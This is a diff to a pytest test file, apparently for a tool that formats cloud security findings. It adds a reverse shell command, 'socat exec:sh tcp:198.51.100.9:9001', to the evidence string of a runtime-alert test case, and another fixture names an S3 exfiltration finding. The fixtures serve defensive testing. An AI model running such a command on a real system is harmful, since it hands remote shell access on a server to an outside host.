@@ -61,7 +61,12 @@ def test_who_what_and_from_where_stand_before_the_json(name: str, words: list[st
 @pytest.mark.parametrize(
     ("name", "evidence"),
     [
-        ("guardduty_runtime_reverse_shell", "/dev/shm/.cache/socat (pid 31337) as nginx, started by php-fpm (once)"),
+        (
+            "guardduty_runtime_reverse_shell",
+            (
+                "/dev/shm/.cache/socat (pid 31337) as nginx, started by php-fpm: socat exec:sh tcp:198.51.100.9:9001 (once)"
+            ),
+        ),
         (
             "guardduty_attack_sequence",
             "build-bot (IAMUser): build-bot from 203.0.113.21 (Lima, Peru, Example Net): Exfiltration:S3/AnomalousBehavior",
